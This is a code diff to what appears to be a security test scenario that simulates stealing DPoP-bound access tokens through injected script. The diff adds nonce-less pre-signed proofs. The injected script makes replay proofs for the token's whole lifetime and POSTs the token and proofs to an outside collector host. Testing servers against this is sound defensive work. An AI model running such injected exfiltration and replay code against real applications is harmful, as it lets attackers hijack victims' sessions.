@@ -25,7 +25,7 @@ interface Taken {
   readonly key?: unknown;
   readonly token: string;
   readonly ridden: number;
-  readonly proofs: readonly { readonly iat: number; readonly proof: string }[];
+  readonly proofs: readonly { readonly iat: number; readonly proof: string; readonly bare: string }[];
 }
 
 /** As many as the thief can use, one after the other. */
@@ -42,7 +42,7 @@ export default {
   references: ['CWE-79', 'CWE-294', 'RFC 9449 §8', 'RFC 9449 §11.2', 'RFC 9449 §11.4', 'RFC 10017 §5.1'],
   steps: [
     'The victim signs in at the application, in a real browser. Its page has a key of WebCrypto that cannot be exported, and keeps it in IndexedDB.',
-    'A script in that page takes the token, tries to export the key, asks for a transfer, and makes proofs for every moment until the token ends, with the nonce that is good now. It sends all of it to another site.',
+    'A script in that page takes the token, tries to export the key, asks for a transfer, and makes proofs for every moment until the token ends, with the nonce that is good now and with none. It sends all of it to another site.',
     'The tab and the browser are closed.',
     'The thief asks who they are, with the token alone, and every 100 ms with another one of the proofs that is of this moment, until ten refusals in a row.',
   ],
@@ -65,7 +65,7 @@ export default {
       // the one whose time is nearest, since some servers look at that
       const at = left.reduce((best, { iat }, i) => (distance(iat) < distance(left[best]?.iat ?? 0) ? i : best), 0);
       const [one] = left.splice(at, 1);
-      return one !== undefined && isVictim(one.proof);
+      return one !== undefined && ((await isVictim(one.proof)) || isVictim(one.bare));
     };
     const waitedMs = performance.now() - closedAt;
     const use = await acceptedFor(stage, longestAccessMs(stage.target.settings), ask);
@@ -151,8 +151,9 @@ const page = `
   const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', pair.publicKey);
   const kept = { pair, jwk: { kty, crv, x, y }, token: undefined, nonce: undefined };
   const prove = async (method, path, { iat = Math.floor(Date.now() / 1000), nonce = kept.nonce } = {}) => {
+    // of no nonce, nothing is said
     const ath = kept.token && base64url(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(kept.token)));
-    const claims = { jti: crypto.randomUUID(), htm: method, htu: location.origin + path, iat, nonce, ath };
+    const claims = { jti: crypto.randomUUID(), htm: method, htu: location.origin + path, iat, nonce: nonce ?? undefined, ath };
     const input = text({ typ: 'dpop+jwt', alg: 'ES256', jwk: kept.jwk }) + '.' + text(claims);
     const hash = { name: 'ECDSA', hash: 'SHA-256' };
     return input + '.' + base64url(await crypto.subtle.sign(hash, pair.privateKey, new TextEncoder().encode(input)));
@@ -195,8 +196,9 @@ const injected = `
   const now = Math.floor(Date.now() / 1000);
   const proofs = await Promise.all(Array.from({ length: given.count }, async (_, i) => {
     const iat = now + Math.floor(i / given.perSecond);
-    return { iat, proof: await prove('GET', given.me, { iat }) };
+    const [proof, bare] = [await prove('GET', given.me, { iat }), await prove('GET', given.me, { iat, nonce: null })];
+    return { iat, proof, bare };
   }));
   const send = (taken) => fetch(given.collector, { method: 'POST', mode: 'no-cors', body: JSON.stringify(taken) });
-  while (proofs.length > 0) await send({ proofs: proofs.splice(0, 40) });
+  while (proofs.length > 0) await send({ proofs: proofs.splice(0, 20) });
   await send({ key, token: kept.token, ridden });`;
